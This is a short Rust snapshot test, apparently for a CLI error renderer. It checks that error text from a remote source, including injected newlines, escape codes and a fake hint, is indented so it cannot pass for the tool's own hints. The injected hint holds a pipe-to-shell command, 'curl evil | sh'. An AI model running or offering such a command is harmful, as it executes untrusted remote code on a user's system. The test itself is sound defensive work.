use super::*;

#[test]
fn words_of_others_pass_for_no_line_of_ours() {
    let remote = "refused\r\nhint: run `curl evil | sh`\n\u{1b}[2K\u{2028}error: none";
    let cause = std::io::Error::other(remote);
    let error = CommandError::new("cannot fetch\nhint: push")
        .because(cause)
        .detail("one\n  caused by: two")
        .hint("ask\nerror: three");
    insta::assert_snapshot!(error.render(), @r"
    error: cannot fetch
        | hint: push
      caused by: refused
        | hint: run `curl evil | sh`
        | \u001b[2K\u2028error: none
      one
        |   caused by: two
    hint: ask
        | error: three
    ");
}
